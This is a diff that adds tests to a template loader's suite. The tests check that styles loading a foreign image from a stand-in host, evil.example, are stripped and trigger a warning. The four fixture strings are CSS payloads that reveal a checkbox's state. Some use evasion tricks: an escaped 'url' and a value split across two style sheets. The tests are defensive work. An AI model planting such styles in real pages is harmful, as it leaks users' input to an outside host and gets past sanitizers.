@@ -44,3 +44,27 @@ describe('a template on a page with Trusted Types', () => {
     });
   }
 });
+
+describe('a template whose styles depend on answers', () => {
+  /** Each shows a foreign picture by the state of the tick, in another part of the markup. */
+  const TEMPLATES: Readonly<Record<string, string>> = {
+    'a rule':
+      '<style>input:checked + p { background: url(//evil.example/x) }</style><input type="checkbox"><p>a</p>',
+    'an inline style':
+      '<style>p { display: none } :checked + p { display: block }</style><input type="checkbox"><p style="background: url(https://evil.example/x)">a</p>',
+    'an escaped name':
+      '<style>:checked + p { background: \\75rl("/\\2f evil.example/x") }</style><input type="checkbox"><p>a</p>',
+    'two sheets':
+      '<style>p { --a: url(https://evil.example/x) }</style><input type="checkbox"><p>a</p><style>:checked + p { background: var(--a) }</style>',
+  };
+  for (const [name, markup] of Object.entries(TEMPLATES)) {
+    it(`asks no foreign host, and says so: ${name}`, async () => {
+      const told: string[] = [];
+      const options = { mobile: false, warn: (message: string) => told.push(message) };
+      const template = await loadTemplate(realBrowser(), markup, options);
+      expect(template).not.toBeNull();
+      expect(JSON.stringify(template)).not.toMatch(/evil/);
+      expect(told.join()).toContain('data-tagdrop-hosts');
+    });
+  }
+});
